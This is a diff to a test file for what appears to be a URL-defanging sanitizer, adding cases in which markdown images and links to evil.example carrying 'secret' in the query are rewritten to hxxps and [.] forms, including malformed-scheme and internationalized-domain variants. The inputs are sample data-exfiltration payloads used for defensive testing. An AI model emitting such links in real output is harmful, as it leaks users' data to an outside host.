@@ -20,6 +20,11 @@ it.each([
 
 it.each([
   ["![x](https://evil.example/p.png?d=secret)", "x (hxxps://evil[.]example/p[.]png?d=secret)"],
+  ["[x](https:/evil.example/?q=secret)", "[x](hxxps:/evil[.]example/?q=secret)"],
+  ["[x](https:evil.example/?q=secret)", "[x](hxxps:evil[.]example/?q=secret)"],
+  ["[x]: https:\\\\evil.example/?q=secret", "[x]: hxxps:\\\\evil[.]example/?q=secret"],
+  ["evil.international/?q=secret", "evil[.]international/?q=secret"],
+  ["evil.xn--p1ai/?q=secret", "evil[.]xn--p1ai/?q=secret"],
   ["![](https://evil.example/secret)", "picture (hxxps://evil[.]example/secret)"],
   ["![x](//evil.example/secret)", "x (//evil[.]example/secret)"],
   ["[x](//evil.example/secret)", "[x](//evil[.]example/secret)"],
